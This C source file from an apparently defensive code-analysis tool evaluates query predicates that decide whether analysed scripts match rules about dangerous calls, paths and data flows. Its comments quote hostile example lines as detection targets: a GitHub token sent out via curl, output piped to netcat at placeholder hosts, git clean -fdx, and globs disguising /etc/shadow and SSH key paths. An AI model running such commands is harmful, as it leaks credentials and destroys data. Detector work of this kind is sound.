/*
 * A pattern's predicates on one match: tree-sitter's #eq?, #match? and
 * #any-of?, and airlock's own, which ask the language what a node
 * resolves to or folds to (analyze.h): #resolves-to?, #value-match?,
 * #each-value-match?, #some-value-match?, #contains-call?, #program-calls?,
 * #program-calls-with?, #regex-selects?, #parent-type?, #type?,
 * #unknown-code?, #child-env?, #after-match?, #next-text-match?, #method?,
 * #arg-value-match?, #same-file?, #bound-text-match?, #text-or-bound-match?,
 * #written-by?, #written-by-text?, #fetched-tree?, #downloaded-before?,
 * #configured-before? (the last five in analyze_flow.c).
 */
#include <stdio.h>
#include <stdlib.h>
#include <fnmatch.h>
#include <string.h>

#include "policy/analyze_internal.h"

/* A predicate's regular expression: the built-in rules' were compiled at
 * build time and are decoded with the query (analyze_rules.c); any other
 * is compiled on its first test (most of a language's predicates are
 * never tested on a given program). Any thread may get here first; the
 * loser of the race frees its copy. A rules directory's expressions were
 * compiled when it was loaded, so only running out of memory fails here,
 * which ends airlock as xmalloc does. */
/* How much of the source after a node #next-text-match? reads */
#define NEXT_TEXT 96

static const pcre2_code *pred_re(const struct pred *p)
{
	struct pred *w = (struct pred *)p; /* the cache, not the rule, is written */
	pcre2_code *re = atomic_load_explicit(&w->re, memory_order_acquire), *none = NULL;
	char msg[400];

	if (re != NULL)
		return re;
	if ((re = rule_compile_re(p->strs[0], p->anchored, msg, sizeof(msg))) == NULL) {
		fprintf(stderr, "airlock: %s\n", msg);
		abort();
	}
	if (p->compiles)
		atomic_fetch_add_explicit(p->compiles, 1, memory_order_relaxed);
	if (!atomic_compare_exchange_strong_explicit(&w->re, &none, re, memory_order_acq_rel,
						     memory_order_acquire)) {
		pcre2_code_free(re);
		re = none;
	}
	return re;
}

/* p's expression anchored at its start only: a text a match may begin
 * with is then a partial match of it (pcre2 takes no partial match of an
 * expression anchored at its end, which #contains-call-with?'s is, and
 * says so with an error, not "no match": the test it serves let every
 * callee through). Compiled on its first use, as pred_re. */
static const pcre2_code *pred_prefix_re(const struct pred *p)
{
	struct pred *w = (struct pred *)p;
	pcre2_code *re = atomic_load_explicit(&w->re_prefix, memory_order_acquire), *none = NULL;
	int e;
	PCRE2_SIZE off;

	if (re != NULL)
		return re;
	re = pcre2_compile((PCRE2_SPTR)p->strs[0], PCRE2_ZERO_TERMINATED,
			   PCRE2_UTF | PCRE2_ANCHORED, &e, &off, NULL);
	if (re == NULL) {
		fputs("airlock: out of memory\n", stderr); /* pred_re compiled it */
		abort();
	}
	if (!atomic_compare_exchange_strong_explicit(&w->re_prefix, &none, re,
						     memory_order_acq_rel, memory_order_acquire)) {
		pcre2_code_free(re);
		re = none;
	}
	return re;
}

/* Whether p's expression matches s: a comparison with each word where it
 * is only words joined by "|" (pred.words: `eval`, `os\.system|os\.popen`),
 * which pcre2_match takes a few hundred instructions to find. */
static bool pred_find(struct actx *c, const struct pred *p, const char *s, size_t len)
{
	if (p->words == NULL)
		return actx_re_find(c, pred_re(p), s, len);
	for (const char *w = p->words;;) {
		const char *bar = strchr(w, '|');
		size_t wl = bar ? (size_t)(bar - w) : strlen(w);
		if (wl == len && memcmp(w, s, len) == 0)
			return true;
		if (bar == NULL)
			return false;
		w = bar + 1;
	}
}

/* pcre2_match with soft partial matching: >= 0 a match,
 * PCRE2_ERROR_PARTIAL a text a match may start with. */
static int re_find_partial(struct actx *c, const pcre2_code *re, const char *s, size_t len)
{
	if (c->re_md == NULL && (c->re_md = pcre2_match_data_create(1, NULL)) == NULL) {
		fputs("airlock: out of memory\n", stderr);
		abort();
	}
	return pcre2_match(re, (PCRE2_SPTR)s, len, 0, PCRE2_PARTIAL_SOFT, c->re_md, NULL);
}

struct each_match {
	struct actx *c;
	const pcre2_code *re;
};

/* A path with ".." in it as the kernel would name it, lexically: each
 * ".." takes away the directory before it ("~/.cache/.." is "~", "~/.." is
 * "/home", "/.." is "/"), "." and doubled slashes go. The length in out;
 * 0 for a value that is not such a path or is too long. */
static size_t path_collapse(const char *v, size_t len, char *out, size_t cap)
{
	if (len == 0 || len >= cap || !memmem(v, len, "..", 2) || (v[0] != '/' && v[0] != '~') ||
	    memchr(v, '\n', len))
		return 0;
	size_t o = 0, i = 0, top; /* top: what ".." takes away last ("~") */
	if (v[0] == '~') {
		while (i < len && v[i] != '/')
			out[o++] = v[i++];
	}
	top = o;
	while (i < len) {
		while (i < len && v[i] == '/')
			i++;
		size_t b = i;
		while (i < len && v[i] != '/')
			i++;
		size_t sl = i - b;
		if (sl == 0 || (sl == 1 && v[b] == '.'))
			continue;
		if (sl == 2 && v[b] == '.' && v[b + 1] == '.') {
			if (o > top) { /* drop the last directory */
				while (o > top && out[o - 1] != '/')
					o--;
				if (o > top)
					o--;
			} else if (top > 0) {
				memcpy(out, "/home", 5); /* the directory homes are in */
				o = 5;
				top = 0;
			}
			continue;
		}
		out[o++] = '/';
		memcpy(out + o, v + b, sl);
		o += sl;
	}
	if (o == 0)
		out[o++] = '/';
	return o;
}

static bool each_match_visit(void *arg, const char *s, size_t len)
{
	struct each_match *m = arg;
	char p[256];
	size_t plen;
	return actx_re_find(m->c, m->re, s, len) ||
	       ((plen = path_collapse(s, len, p, sizeof(p))) > 0 && actx_re_find(m->c, m->re, p, plen));
}

/* Where the language cannot list a node's values, its one folded value. */
static bool folded_match(struct actx *c, TSNode n, const pcre2_code *re)
{
	size_t vlen;
	char *v = fold_dup(c, n, 0, &vlen);
	bool hit = v && actx_re_find(c, re, v, vlen);

	free(v);
	return hit;
}

/* #each-value-match?: every value n may take is known and matches. */
static bool each_value_match(struct actx *c, TSNode n, const pcre2_code *re)
{
	struct each_match m = {c, re};

	if (c->ops->each_value)
		return c->ops->each_value(c, n, false, each_match_visit, &m, 0) == 0;
	/* one folded value stands for every value only when no name in n
	 * could hold another (x = "ls" then x = "sh": not known) */
	if (c->ops->ambiguous && c->ops->ambiguous(c, n))
		return false;
	return folded_match(c, n, re);
}

static bool some_match_visit(void *arg, const char *s, size_t len)
{
	return !each_match_visit(arg, s, len); /* false: found, stop */
}

/* #some-value-match?: one value n may take, or a canonical name one of
 * them resolves to, matches. */
static bool some_value_match(struct actx *c, TSNode n, const pcre2_code *re)
{
	struct each_match m = {c, re};

	if (c->ops->each_value)
		return c->ops->each_value(c, n, true, some_match_visit, &m, 0) < 0;
	return folded_match(c, n, re);
}

/* A require(name) call, as "global.require(name)": what it loads. */
static bool require_matches(struct actx *c, TSNode call, const pcre2_code *re)
{
	TSNode args = node_field(call, "arguments");
	size_t len;
	char *v = ts_node_is_null(args) || ts_node_named_child_count(args) == 0
		      ? NULL
		      : actx_fold_node(c, ts_node_named_child(args, 0), &len);
	struct buf b = {0};
	bool hit = false;

	if (v) {
		buf_append(&b, "global.require(", 15);
		buf_append(&b, v, len);
		buf_append(&b, ")", 1);
		hit = actx_re_find(c, re, b.data, b.len);
		buf_free(&b);
		free(v);
	}
	return hit;
}

/* A search of n and of the values of the names it uses (a reachability
 * search: each name's values are looked at once, memo kind) for a node
 * where here() holds: #contains-call? and #contains-call-with?. as_too: a
 * name bound by `with E as name` stands for E. */
struct reach {
	bool (*here)(struct actx *c, TSNode n, const struct reach *r);
	const pcre2_code *re;
	char memo;
	bool as_too;
	const pcre2_code *prefix; /* re without its end anchor (pred_prefix_re) */
};

/* n itself a call whose callee resolves to a name that re matches */
static bool call_here(struct actx *c, TSNode n, const struct reach *r)
{
	const pcre2_code *re = r->re;
	TSNode callee;
	struct names ns = {0};
	bool hit = false;

	if (!c->ops->call_callee(n, &callee))
		return false;
	c->ops->resolve(c, callee, &ns, 0);
	TSNode f = {0}; /* map(socket.inet_aton, l) calls inet_aton */
	if (ns.n == 0 && node_len(callee) == 3 && !memcmp(node_src(c, callee), "map", 3) &&
	    (f = node_field(n, "arguments")).id && (f = ts_node_named_child(f, 0)).id)
		c->ops->resolve(c, f, &ns, 0);
	for (int i = 0; i < ns.n && !hit; i++) {
		hit = actx_re_find(c, re, ns.v[i], strlen(ns.v[i]));
		if (!hit && strcmp(ns.v[i], "global.require") == 0)
			hit = require_matches(c, n, re); /* "global.require(fs)" */
	}
	names_free(&ns);
	return hit;
}

static bool reaches(struct actx *c, const struct reach *r, TSNode n, int depth)
{
	if (depth > RESOLVE_DEPTH || !actx_step(c))
		return false;
	if (r->here(c, n, r))
		return true;
	if (node_is(n, "identifier") || node_is(n, "variable_name")) {
		struct memo *m = actx_memo_find(c, r->memo, node_src(c, n), node_len(n));
		size_t i = 0;
		const struct binding *b;
		if (m && m->seen == c->search)
			return false;
		if (m)
			m->seen = c->search;
		while ((b = actx_lookup(c, node_src(c, n), node_len(n), &i))) {
			TSNode v = b->kind == BIND_VALUE ? b->value
				   : r->as_too && b->kind == BIND_RUNTIME &&
					     node_is(b->value, "as_pattern")
				       ? ts_node_named_child(b->value, 0)
				       : (TSNode){0};
			if (!ts_node_is_null(v) && reaches(c, r, v, depth + 1))
				return true;
		}
	}
	uint32_t k = ts_node_named_child_count(n);
	for (uint32_t i = 0; i < k; i++)
		if (reaches(c, r, ts_node_named_child(n, i), depth + 1))
			return true;
	return false;
}

static bool contains_call(struct actx *c, TSNode n, const pcre2_code *re)
{
	return reaches(c, &(struct reach){call_here, re, 'c', false, NULL}, n, 0);
}

/* #program-calls-with?: "callee(value)" tested for each call. */
struct call_with {
	struct actx *c;
	const pcre2_code *re;
	const char *callee;
	struct buf b;
};

static bool call_with_visit(void *arg, const char *s, size_t len)
{
	struct call_with *w = arg;

	w->b.len = 0;
	buf_append(&w->b, w->callee, strlen(w->callee));
	buf_append(&w->b, "(", 1);
	buf_append(&w->b, s, len);
	buf_append(&w->b, ")", 1);
	return !actx_re_find(w->c, w->re, w->b.data, w->b.len); /* false: found, stop */
}

/* Whether a value of arg, the first argument of call, makes w's
 * "callee(value)" match. Once a call: every search that reaches it (each
 * open() of a long program whose names lead to one urlopen) asks the
 * same, and the values of an argument may take thousands of steps. Not
 * kept when a budget cut it short, nor inside a function's call being
 * folded (a parameter's value is that call's). */
static bool some_value_with(struct actx *c, TSNode call, TSNode arg, struct call_with *w)
{
	char key[64];
	int klen = snprintf(key, sizeof(key), "%u:%p:%s", ts_node_start_byte(call), (void *)w->re,
			    w->callee);
	struct memo *m = c->nframes == 0 && klen > 0 && (size_t)klen < sizeof(key)
			     ? actx_memo_find(c, 'W', key, (size_t)klen)
			     : NULL;
	if (m && m->state == MEMO_DONE)
		return m->folded == 1;
	bool exhausted = c->exhausted;
	unsigned long cycles = c->cycles;
	bool hit = c->ops->each_value(c, arg, true, call_with_visit, w, 0) < 0;
	if (m && c->exhausted == exhausted && c->cycles == cycles &&
	    c->pred_steps < STEPS_PER_PREDICATE && !c->late) {
		m->state = MEMO_DONE;
		m->folded = hit;
	}
	return hit;
}

/* n itself a call whose "callee(value)" matches */
static bool call_with_here(struct actx *c, TSNode n, const struct reach *r)
{
	const pcre2_code *re = r->re;
	TSNode callee;

	if (c->ops->call_callee(n, &callee) && c->ops->each_value) {
		struct names tmp = {0};
		const struct names *ns = actx_resolved(c, callee, &tmp);
		TSNode args = node_field(n, "arguments"), arg = {0};
		for (uint32_t i = 0; !ts_node_is_null(args) && i < ts_node_named_child_count(args);
		     i++) {
			TSNode a = ts_node_named_child(args, i);
			if (!node_is(a, "comment")) {
				arg = a;
				break;
			}
		}
		struct call_with w = {c, re, NULL, {0}};
		bool hit = false;
		for (int i = 0; i < ns->n && !hit; i++) {
			w.callee = ns->v[i];
			/* "callee(" must begin a match (a partial one): the values
			 * of the other calls' arguments are not looked at */
			w.b.len = 0;
			buf_append(&w.b, w.callee, strlen(w.callee));
			buf_append(&w.b, "(", 1);
			if (re_find_partial(c, r->prefix, w.b.data, w.b.len) == PCRE2_ERROR_NOMATCH)
				continue;
			hit = ts_node_is_null(arg) ? !call_with_visit(&w, "", 0)
						   : some_value_with(c, n, arg, &w);
		}
		buf_free(&w.b);
		names_free(&tmp);
		return hit;
	}
	return false;
}

static bool calls_with(struct actx *c, TSNode n, const struct reach *r, int depth)
{
	if (depth > RESOLVE_DEPTH || !actx_step(c))
		return false;
	if (call_with_here(c, n, r))
		return true;
	uint32_t k = ts_node_named_child_count(n);
	for (uint32_t i = 0; i < k; i++)
		if (calls_with(c, ts_node_named_child(n, i), r, depth + 1))
			return true;
	return false;
}

/* #contains-call-with?: such a call in the node or in the values of the
 * names it uses, as #contains-call? searches (urlopen("data:...") read
 * into a name that is then opened, also by `with urlopen(u) as f`) */
static bool contains_call_with(struct actx *c, TSNode n, const struct pred *p)
{
	return reaches(c, &(struct reach){call_with_here, pred_re(p), 'w', true, pred_prefix_re(p)},
		       n, 0);
}

/* after-match?: a statement before n in its block, or before a block that
 * holds n and runs where it stands (a subshell, { ...; }, a list, a
 * pipeline or a redirected statement, not a function's body), whose
 * text matches (a list's: its first command's; a redirected command's,
 * its redirects with it): cd ~ || exit; ...; git clean -fdx,
 * exec 7> >(nc h p); set -x, export VISUAL=...; (crontab -e) */
static bool after_match(struct actx *c, TSNode n, const pcre2_code *re)
{
	for (TSNode p; !ts_node_is_null(n); n = p) {
		for (TSNode s = ts_node_prev_named_sibling(n); !ts_node_is_null(s);
		     s = ts_node_prev_named_sibling(s)) {
			TSNode t = node_is(s, "list") ? ts_node_named_child(s, 0) : s;
			if ((node_is(t, "command") || node_is(t, "redirected_statement") ||
			     node_is(t, "declaration_command") ||
			     node_is(t, "variable_assignment")) &&
			    actx_re_find(c, re, node_src(c, t), node_len(t)))
				return true;
		}
		p = ts_node_parent(n);
		if (!(node_is(p, "redirected_statement") || node_is(p, "pipeline") ||
		      node_is(p, "list") || node_is(p, "subshell") ||
		      (node_is(p, "compound_statement") &&
		       !node_is(ts_node_parent(p), "function_definition"))))
			break;
	}
	return false;
}

/* The other texts the language gives n for #match? (lang_ops.match_text),
 * each as its length then its bytes, in *out; computed once a node, as
 * actx_fold_node does (rules test one pattern after another on a node). */
static void other_texts(struct actx *c, TSNode n, struct buf *out)
{
	uint32_t start = ts_node_start_byte(n), end = ts_node_end_byte(n);
	TSSymbol sym = ts_node_symbol(n);
	bool hit;
	struct folded_node *r = actx_folded_slot(&c->mcache, n, &hit);

	if (hit) {
		if (r->len)
			buf_append(out, r->val, r->len);
		return;
	}
	bool exhausted = c->exhausted;
	unsigned long cycles = c->cycles;
	c->ops->match_text(c, n, out);
	if (c->exhausted != exhausted || c->pred_steps >= STEPS_PER_PREDICATE ||
	    c->cycles != cycles)
		return;
	free(r->val);
	r->valid = true;
	r->start = start, r->end = end, r->symbol = sym;
	r->val = out->len ? xmalloc(out->len) : NULL;
	if (out->len)
		memcpy(r->val, out->data, out->len);
	r->len = out->len;
}

/* #match? on the other texts the language gives n. */
static bool match_other_text(struct actx *c, TSNode n, const pcre2_code *re)
{
	struct buf b = {0};
	bool hit = false;
	size_t len;

	if (c->ops->match_text == NULL)
		return false;
	other_texts(c, n, &b);
	for (size_t at = 0; !hit && at + sizeof(len) <= b.len; at += sizeof(len) + len) {
		memcpy(&len, b.data + at, sizeof(len));
		hit = actx_re_find(c, re, b.data + at + sizeof(len), len);
	}
	buf_free(&b);
	return hit;
}

static bool one_of(const struct pred *p, const char *s, size_t len)
{
	for (uint32_t i = 0; i < p->nstrs; i++)
		if (strlen(p->strs[i]) == len && memcmp(p->strs[i], s, len) == 0)
			return true;
	return false;
}

/* getattr(obj, name) (call), name one of the strings folded */
static bool getattr_name_is(struct actx *c, const struct pred *p, TSNode call, TSNode name)
{
	struct names tmp = {0};
	const struct names *ns = actx_resolved(c, node_field(call, "function"), &tmp);
	bool hit = false;
	for (int i = 0; i < ns->n && !hit; i++)
		hit = strcmp(ns->v[i], "builtins.getattr") == 0;
	names_free(&tmp);
	size_t len;
	char *v = hit ? actx_fold_node(c, name, &len) : NULL;
	hit = v && one_of(p, v, len);
	free(v);
	return hit;
}

/* #method?: n names the method a call calls, one of the strings: obj.NAME
 * (the attribute's text), getattr(obj, "NA" + "ME") (its second argument,
 * folded), or a function imported by its name (from shutil import
 * unpack_archive as u: the last part of what u resolves to). n is the
 * call's function, or the name in it (an attribute's, getattr's second
 * argument). */
static bool method_is(struct actx *c, const struct pred *p, TSNode n)
{
	struct names tmp = {0};
	const struct names *ns;
	bool hit = false;
	size_t before = ts_node_start_byte(n), after = ts_node_end_byte(n);

	/* a call's function: obj.NAME, getattr(obj, NAME), NAME */
	if (node_is(n, "attribute") || node_is(n, "member_expression")) {
		TSNode a = node_field(n, node_is(n, "attribute") ? "attribute" : "property");
		return one_of(p, node_src(c, a), node_len(a));
	}
	if (node_is(n, "call")) {
		TSNode fn = node_field(n, "function");
		TSNode args = node_field(n, "arguments");
		if (!node_is(fn, "identifier") && !node_is(fn, "attribute"))
			return false; /* getattr, g = getattr, builtins.getattr */
		uint32_t k = ts_node_named_child_count(args);
		for (uint32_t i = 0, pos = 0; i < k; i++) {
			TSNode a = ts_node_named_child(args, i);
			if (!node_is(a, "comment") && pos++ == 1)
				return getattr_name_is(c, p, n, a);
		}
		return false;
	}
	/* by the text around it, not ts_node_parent (a walk from the root):
	 * a name after a dot is an attribute's, one before "(" is called */
	while (before > 0 && strchr(" \t\r\n\\", c->src[before - 1]))
		before--;
	while (after < c->len && strchr(" \t\r\n\\", c->src[after]))
		after++;
	if (before > 0 && c->src[before - 1] == '.')
		return one_of(p, node_src(c, n), node_len(n));
	if (node_is(n, "identifier") && after < c->len && c->src[after] == '(') {
		ns = actx_resolved(c, n, &tmp);
		for (int i = 0; i < ns->n && !hit; i++) {
			const char *dot = strrchr(ns->v[i], '.');
			hit = dot && one_of(p, dot + 1, strlen(dot + 1));
		}
		names_free(&tmp);
		return hit;
	}
	TSNode parent = ts_node_parent(n), call = ts_node_parent(parent);
	if (!node_is(parent, "argument_list") || !node_is(call, "call"))
		return false;
	return getattr_name_is(c, p, call, n);
}

/* Whether re is found anywhere in the program's source: a value's source
 * is a part of it, so when it is not, no value can match (found once an
 * expression). */
static bool in_source(struct actx *c, const pcre2_code *re)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(c->bt_re) && c->bt_re[i] != NULL; i++)
		if (c->bt_re[i] == re)
			return c->bt_in_src[i] > 0;
	bool hit = actx_re_find(c, re, c->src, c->len);
	if (i == ARRAY_SIZE(c->bt_re))
		i = 0;
	c->bt_re[i] = re;
	c->bt_in_src[i] = hit ? 1 : -1;
	return hit;
}

/* #bound-text-match?: the source of a value given to a variable that n
 * reads (tok=$(gh auth token); curl -d "t=$tok" u reads "$(gh auth
 * token)"), and of the values those values read, a few steps deep; in
 * Bash, the body of the program's own function that n runs as a command
 * (tok() { gh auth token; }; curl -d "$(tok)" u, tok | nc h p) as well,
 * which lang_bash.c binds under "function NAME". */
static bool bound_text(struct actx *c, TSNode n, const pcre2_code *re, int hops, int depth)
{
	if (depth > RESOLVE_DEPTH || !actx_step(c))
		return false;
	TSNode fname = hops < 3 && node_is(n, "command") ? node_field(n, "name") : (TSNode){0};
	if (!ts_node_is_null(fname) && node_len(fname) < 200) {
		char key[256];
		int len = snprintf(key, sizeof(key), "function %.*s", (int)node_len(fname),
				   node_src(c, fname));
		size_t i = 0;
		const struct binding *b;
		while (len > 0 && (b = actx_lookup(c, key, (size_t)len, &i)))
			if (b->kind == BIND_VALUE &&
			    (actx_re_find(c, re, node_src(c, b->value), node_len(b->value)) ||
			     bound_text(c, b->value, re, hops + 1, 0)))
				return true;
	}
	if (node_is(n, "variable_name") || node_is(n, "identifier")) {
		size_t i = 0;
		const struct binding *b;
		while (hops < 3 && (b = actx_lookup(c, node_src(c, n), node_len(n), &i)))
			if (b->kind == BIND_VALUE &&
			    (actx_re_find(c, re, node_src(c, b->value), node_len(b->value)) ||
			     bound_text(c, b->value, re, hops + 1, 0)))
				return true;
		return false;
	}
	uint32_t k = ts_node_named_child_count(n);
	for (uint32_t i = 0; i < k; i++)
		if (bound_text(c, ts_node_named_child(n, i), re, hops, depth + 1))
			return true;
	return false;
}

static bool test_node(struct eval *e, const struct pred *p, TSNode n)
{
	struct actx *c = e->c;
	const char *s = node_src(c, n);
	size_t len = node_len(n);

	c->pred_steps = 0;
	switch (p->op) {
	case P_EQ:
		if (p->cap2 != UINT32_MAX) {
			for (uint16_t i = 0; i < e->m->capture_count; i++) {
				TSNode o = e->m->captures[i].node;
				if (e->m->captures[i].index == p->cap2 && node_len(o) == len &&
				    memcmp(node_src(c, o), s, len) == 0)
					return true;
			}
			return false;
		}
		return strlen(p->strs[0]) == len && memcmp(p->strs[0], s, len) == 0;
	case P_WRITTEN_BY:
		return analyze_written_by(c, n, pred_re(p), false);
	case P_WRITTEN_BY_TEXT:
		return analyze_written_by(c, n, pred_re(p), true);
	case P_DOWNLOADED_BEFORE:
		return analyze_downloaded_before(c, n, pred_re(p));
	case P_CONFIGURED_BEFORE:
		return analyze_configured_before(c, n, pred_re(p));
	case P_FETCHED_TREE:
		/* looked for only when re finds such a fetch in the source */
		return in_source(c, pred_re(p)) && analyze_fetched_tree(c, n, pred_re(p));
	case P_BOUND_TEXT:
		return in_source(c, pred_re(p)) && bound_text(c, n, pred_re(p), 0, 0);
	case P_TEXT_BOUND: /* n's own text; a name, what #bound-text-match? reads */
		return actx_re_find(c, pred_re(p), node_src(c, n), node_len(n)) ||
		       ((node_is(n, "identifier") || node_is(n, "variable_name")) &&
			in_source(c, pred_re(p)) && bound_text(c, n, pred_re(p), 0, 0));
	case P_AFTER_CD:      /* the directory a cd before n went to */
	case P_AFTER_CD_PATH: { /* that directory, then "/" and n's value */
		TSNode dir = {0};
		bool home = false;
		if (!c->ops->dir_before || !c->ops->dir_before(c, n, &dir, &home))
			return false;
		size_t vlen = 1, tlen = 0;
		char *v = home ? strdup("~") : actx_fold_node(c, dir, &vlen);
		char *t = p->op == P_AFTER_CD_PATH ? actx_fold_node(c, n, &tlen) : NULL;
		if (t && tlen > 0) { /* curl -F name=@file;type=T, -d @file: the file */
			size_t k = strspn(
			    t, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-");
			k = k < tlen && t[k] == '=' ? k + 1 : 0;
			k += t[k] == '@';
			char *semi = k > 0 ? strchr(t + k, ';') : NULL;
			tlen = (semi ? (size_t)(semi - t) : tlen) - k;
			memmove(t, t + k, tlen);
			t[tlen] = '\0';
		}
		if (t && (t[0] == '/' || t[0] == '~')) { /* not relative */
			free(t);
			t = NULL;
		}
		if (v && t) {
			char *j = malloc(vlen + tlen + 2);
			if (j) {
				memcpy(j, v, vlen);
				j[vlen] = '/';
				memcpy(j + vlen + 1, t, tlen);
				j[vlen + tlen + 1] = '\0';
				vlen += tlen + 1;
			}
			free(v);
			v = j;
		} else if (p->op == P_AFTER_CD_PATH) {
			free(v);
			v = NULL;
		}
		bool hit = v && actx_re_find(c, pred_re(p), v, vlen);
		free(v);
		free(t);
		return hit;
	}
	case P_SAME_FILE:
		for (uint16_t i = 0; i < e->m->capture_count; i++)
			if (e->m->captures[i].index == p->cap2 &&
			    analyze_same_file(c, n, e->m->captures[i].node))
				return true;
		return false;
	case P_MATCH:
		return actx_re_find(c, pred_re(p), s, len) || match_other_text(c, n, pred_re(p));
	case P_ANY_OF:
		return one_of(p, s, len);
	case P_METHOD:
		return method_is(c, p, n);
	case P_ARG_VALUE: {
		/* an argument list: one of its positional arguments, folded
		 * alone (an unknown one does not hide the others); a keyword
		 * argument: those of its call, or any value of the object of
		 * a method call (l.sort(key=f): l) */
		bool hit = false;
		if (node_is(n, "keyword_argument")) {
			TSNode fn = node_field(ts_node_parent(ts_node_parent(n)), "function");
			n = ts_node_parent(n);
			if (node_is(fn, "attribute") &&
			    some_value_match(c, node_field(fn, "object"), pred_re(p)))
				return true;
		}
		uint32_t k = ts_node_named_child_count(n);
		for (uint32_t i = 0; i < k && !hit; i++) {
			TSNode a = ts_node_named_child(n, i);
			size_t vlen;
			char *v = node_is(a, "keyword_argument") || node_is(a, "comment") ||
					  node_is(a, "pair")
				      ? NULL
				      : actx_fold_node(c, a, &vlen);
			hit = v && actx_re_find(c, pred_re(p), v, vlen);
			free(v);
		}
		return hit;
	}
	case P_PREV_RESOLVES: /* the argument before n (a keyword's value) */
		do
			n = ts_node_prev_named_sibling(n);
		while (node_is(n, "comment"));
		if (node_is(n, "keyword_argument"))
			n = node_field(n, "value");
		if (ts_node_is_null(n))
			return false;
		/* fall through */
	case P_RESOLVES: {
		struct names tmp = {0};
		const struct names *ns = actx_resolved(c, n, &tmp);
		bool hit = false;
		for (int i = 0; i < ns->n && !hit; i++)
			hit = pred_find(c, p, ns->v[i], strlen(ns->v[i]));
		names_free(&tmp);
		return hit;
	}
	case P_VALUE: {
		size_t vlen;
		char *v = actx_fold_node(c, n, &vlen);
		bool hit = v && actx_re_find(c, pred_re(p), v, vlen);
		size_t glen;
		char *g =
		    v && !hit && memchr(v, '[', vlen) ? path_glob_representative(v, vlen, &glen) : NULL;
		if (g)
			hit = actx_re_find(c, pred_re(p), g, glen);
		/* brackets alone: without case, /[E]TC/[S]HADOW, or a list the
		 * first character does not stand for, ~/.[as][sw][hs] */
		if (v && !hit && (memchr(v, '?', vlen) || memchr(v, '*', vlen) || g))
			hit = path_glob_match(c, pred_re(p), v, vlen);
		if (v && !hit)
			hit = path_regex_match(c, pred_re(p), v, vlen);
		/* a name of a loop over values: one of them (not for a negated
		 * test, which one value would defeat) */
		for (int k = 1; !v && !hit && !p->neg && c->loop_seen && k <= c->loop_max && k <= 16;
		     k++) {
			c->loop_pick = k;
			char *w = fold_dup(c, n, 0, &vlen);
			c->loop_pick = 0;
			hit = w && actx_re_find(c, pred_re(p), w, vlen);
			free(w);
		}
		free(g);
		free(v);
		return hit;
	}
	case P_EACH_VALUE:
		return each_value_match(c, n, pred_re(p));
	case P_SOME_VALUE: {
		c->loop_seen = false;
		bool hit = some_value_match(c, n, pred_re(p));
		/* ... or, met a loop's name (map(lambda p: ..., items)), with
		 * each of its values (not for a negated test) */
		for (int k = 1; !hit && !p->neg && c->loop_seen && k <= c->loop_max && k <= 16;
		     k++) {
			c->loop_pick = k;
			hit = some_value_match(c, n, pred_re(p));
			c->loop_pick = 0;
		}
		return hit;
	}
	case P_FIRST_VALUE: {
		struct each_match m = {c, pred_re(p)};
		return c->ops->first_value &&
		       c->ops->first_value(c, n, each_match_visit, &m, 0) == 0;
	}
	case P_CONTAINS_CALL:
		c->search++;
		return contains_call(c, n, pred_re(p));
	case P_CONTAINS_CALL_WITH:
		c->search++;
		return contains_call_with(c, n, p);
	case P_PROGRAM_CALLS: {
		TSNode up;
		while (!ts_node_is_null(up = ts_node_parent(n)))
			n = up;
		c->search++;
		return contains_call(c, n, pred_re(p));
	}
	case P_PROGRAM_CALLS_WITH: {
		TSNode up;
		while (!ts_node_is_null(up = ts_node_parent(n)))
			n = up;
		return calls_with(
		    c, n, &(struct reach){call_with_here, pred_re(p), 'w', true, pred_prefix_re(p)},
		    0);
	}
	case P_REGEX_SELECTS:
		return path_regex_selects(c, n, pred_re(p));
	case P_PARENT_TYPE: {
		TSNode parent = ts_node_parent(n);
		for (uint32_t i = 0; !ts_node_is_null(parent) && i < p->nstrs; i++)
			if (strcmp(ts_node_type(parent), p->strs[i]) == 0)
				return true;
		return false;
	}
	case P_TYPE:
		for (uint32_t i = 0; i < p->nstrs; i++)
			if (strcmp(ts_node_type(n), p->strs[i]) == 0)
				return true;
		return false;
	case P_UNKNOWN_CODE: {
		size_t vlen;
		char *v = actx_fold_node(c, n, &vlen);
		bool known = v && !(c->ops->ambiguous && c->ops->ambiguous(c, n));
		free(v);
		return !known && !(c->ops->inert && c->ops->inert(c, n));
	}
	case P_CHILD_ENV:
		return c->ops->child_env && c->ops->child_env(c, n);
	case P_LINKS_HOME: /* a path under a symlink to the home or / */
		return c->ops->links_home && c->ops->links_home(c, n);
	case P_AFTER_MATCH:
		return after_match(c, n, pred_re(p));
	case P_NEXT_TEXT: {
		/* the source right after n, up to NEXT_TEXT bytes: no walk of
		 * the tree, what follows a path's part (, "config") */
		size_t end = ts_node_end_byte(n);
		size_t rest = end < c->len ? c->len - end : 0;
		return actx_re_find(c, pred_re(p), c->src + end, rest < NEXT_TEXT ? rest : NEXT_TEXT);
	}
	}
	return false;
}

/* A predicate holds when some node of its capture passes (a negated one:
 * when none does). */
bool analyze_test_pred(struct eval *e, const struct pred *p)
{
	for (uint16_t i = 0; i < e->m->capture_count; i++)
		if (e->m->captures[i].index == p->cap && test_node(e, p, e->m->captures[i].node))
			return !p->neg;
	return p->neg;
}
